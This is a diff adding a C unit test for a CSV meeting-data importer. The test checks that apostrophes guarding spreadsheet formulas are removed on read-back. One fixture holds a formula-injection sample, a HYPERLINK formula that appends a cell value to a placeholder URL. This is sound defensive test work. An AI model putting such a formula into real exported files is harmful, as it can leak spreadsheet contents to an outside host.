@@ -198,6 +198,35 @@ test_quoted_values(void **state)
 	assert_str(v, "\"");
 }
 
+/* Cells csv_field guarded against spreadsheet formulas lose that one
+ * apostrophe; an apostrophe that guards nothing is the title's own. */
+static void
+test_formula_guard_read_back(void **state)
+{
+	struct unit_fx *fx = *state;
+	char v[256];
+
+	import_ok(fx, "meeting", "date,kind,title,agenda\r\n"
+	    "2026-04-01,board,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"y\"\")\",'@SUM(1)\r\n"
+	    "2026-04-02,board,'+1,'-1+1\r\n"
+	    "2026-04-03,board,'quoted,'-4900000\r\n"
+	    "2026-04-04,board,''=x,'\r\n"
+	    "2026-04-05,board,=1+1,@x\r\n", false);
+	assert_int_equal(res.imported, 5);
+	meeting_value(fx, "title || '|' || agenda", "2026-04-01", v, sizeof v);
+	assert_str(v, "=HYPERLINK(\"http://x\"&A1,\"y\")|@SUM(1)");
+	meeting_value(fx, "title || '|' || agenda", "2026-04-02", v, sizeof v);
+	assert_str(v, "+1|-1+1");
+	/* A number is never guarded, so '-4900000 is written as it stands. */
+	meeting_value(fx, "title || '|' || agenda", "2026-04-03", v, sizeof v);
+	assert_str(v, "'quoted|'-4900000");
+	meeting_value(fx, "title || '|' || agenda", "2026-04-04", v, sizeof v);
+	assert_str(v, "'=x|'");
+	/* An unguarded formula-like cell is text like any other. */
+	meeting_value(fx, "title || '|' || agenda", "2026-04-05", v, sizeof v);
+	assert_str(v, "=1+1|@x");
+}
+
 /* Line numbers are physical lines, with the header as line 1: a value's
  * line breaks count, blank lines count, and a row of empty cells is
  * skipped but counted as a line. */
@@ -614,6 +643,7 @@ main(void)
 		DB(test_header_by_japanese_labels),
 		DB(test_id_column_ignored),
 		DB(test_quoted_values),
+		DB(test_formula_guard_read_back),
 		DB(test_line_numbers),
 		DB(test_line_ends),
 		DB(test_bom_and_cp932),
